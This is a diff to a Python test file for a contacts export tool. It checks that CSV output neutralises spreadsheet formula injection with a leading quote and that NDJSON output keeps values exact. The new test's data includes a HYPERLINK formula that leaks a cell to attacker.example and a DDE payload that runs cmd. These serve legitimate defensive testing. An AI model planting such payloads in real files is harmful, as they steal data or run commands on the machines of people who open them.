@@ -46,8 +46,23 @@ def test_csv_has_a_header_row_and_nested_fields_as_json(kit, resource):
                 assert cell == ""
             elif isinstance(value, bool):
                 assert cell == str(value).lower()
+            elif cell != str(value):        # a cell a spreadsheet would run (a phone "+1 (555) ..."): inert
+                assert cell == "'" + str(value) and str(value).lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r")
             else:
                 assert cell == str(value)
+
+
+def test_a_formula_typed_into_an_ac_form_is_inert_in_csv_and_exact_in_ndjson(kit):
+    """A contact who filled in a public AC form with a formula: a spreadsheet opening the CSV file shows it as
+    text (a leading '), the NDJSON file carries it exactly as AC sent it."""
+    link, dde = '=HYPERLINK("https://attacker.example/?d="&C2,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0"
+    contact = kit.sandbox.contacts[0]
+    contact["firstName"], contact["lastName"] = link, dde
+    _, rows = kit.run("contacts", {"format": "csv"})
+    cells = dict(zip(rows[0], rows[1], strict=True))
+    assert (cells["id"], cells["firstName"], cells["lastName"]) == (contact["id"], "'" + link, "'" + dde)
+    _, records = kit.run("contacts")
+    assert (records[0]["firstName"], records[0]["lastName"]) == (link, dde)
 
 
 @pytest.mark.slow   # >= 0.3 s here (make test-fast leaves it out)
